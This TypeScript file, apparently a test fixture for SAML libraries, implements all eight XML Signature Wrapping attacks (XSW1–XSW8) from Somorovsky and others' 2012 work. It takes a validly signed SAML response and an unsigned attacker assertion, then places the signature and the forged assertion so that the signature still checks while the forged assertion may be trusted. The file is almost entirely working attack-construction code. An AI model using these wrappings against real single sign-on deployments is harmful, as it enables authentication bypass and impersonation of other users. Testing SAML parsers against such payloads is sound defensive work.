/**
 * The eight ways of signature wrapping (Somorovsky and others, 2012): a signature that holds is kept beside an
 * assertion that it does not cover. Each gets a response signed as a whole or with a signed assertion, and what the
 * attacker would rather say.
 */
export interface Wrapped {
  /** The signed response, or a response with a signed assertion. */
  good: string;
  /** An assertion of the attacker, without a signature. */
  evil: string;
}

const part = (xml: string, name: string): string =>
  new RegExp(`<(?:\\w+:)?${name}[\\s>][\\s\\S]*</(?:\\w+:)?${name}>`).exec(xml)?.[0] ?? '';
const assertionOf = (xml: string) => part(xml, 'Assertion');
const signatureOf = (xml: string) => part(xml, 'Signature');
const inside = (xml: string, more: string) => xml.replace(/<\/(?:\w+:)?\w+>$/, (end) => `${more}${end}`);
const withSignature = (assertion: string, signature: string) =>
  assertion.replace(/(<\/saml:Issuer>)/, (end) => `${end}${signature}`);
const renamed = (xml: string) => xml.replace(/ID="([^"]+)"/, 'ID="_evil"');

/** The response of the attacker: the good one without its signature, with what they say in it. */
const evilResponse = ({ good, evil }: Wrapped) =>
  renamed(good.replace(signatureOf(good), '').replace(assertionOf(good), evil));

export const WRAPPINGS: readonly (readonly [
  name: string,
  of: 'Response' | 'Assertion',
  make: (w: Wrapped) => string,
])[] = [
  // The signature is in the evil response, the good one in the signature.
  [
    'XSW1',
    'Response',
    (w) =>
      evilResponse(w).replace(
        /(<\/saml:Issuer>)/,
        (end) =>
          `${end}${signatureOf(w.good).replace(/<\/ds:Signature>$/, `${w.good.replace(signatureOf(w.good), '')}</ds:Signature>`)}`,
      ),
  ],
  // Beside each other in the evil response.
  [
    'XSW2',
    'Response',
    (w) =>
      evilResponse(w).replace(
        /(<\/saml:Issuer>)/,
        (end) => `${end}${w.good.replace(signatureOf(w.good), '')}${signatureOf(w.good)}`,
      ),
  ],
  // The evil assertion stands before the good one.
  ['XSW3', 'Assertion', ({ good, evil }) => good.replace(assertionOf(good), (one) => `${evil}${one}`)],
  // The good one stands in the evil one.
  ['XSW4', 'Assertion', ({ good, evil }) => good.replace(assertionOf(good), (one) => inside(evil, one))],
  // The evil one has the signature of the good one, which stands behind it.
  [
    'XSW5',
    'Assertion',
    ({ good, evil }) =>
      good.replace(
        assertionOf(good),
        (one) => `${withSignature(evil, signatureOf(one))}${one.replace(signatureOf(one), '')}`,
      ),
  ],
  // The same, with the good one in the signature.
  [
    'XSW6',
    'Assertion',
    ({ good, evil }) =>
      good.replace(assertionOf(good), (one) =>
        withSignature(
          evil,
          signatureOf(one).replace(
            /<\/ds:Signature>$/,
            `${one.replace(signatureOf(one), '')}</ds:Signature>`,
          ),
        ),
      ),
  ],
  // The evil one stands among extensions.
  [
    'XSW7',
    'Assertion',
    ({ good, evil }) =>
      good.replace('<samlp:Status>', `<samlp:Extensions>${evil}</samlp:Extensions><samlp:Status>`),
  ],
  // The good one stands in an object of the evil one's signature.
  [
    'XSW8',
    'Assertion',
    ({ good, evil }) =>
      good.replace(assertionOf(good), (one) =>
        withSignature(
          evil,
          signatureOf(one).replace(
            /<\/ds:Signature>$/,
            `<ds:Object>${one.replace(signatureOf(one), '')}</ds:Object></ds:Signature>`,
          ),
        ),
      ),
  ],
];
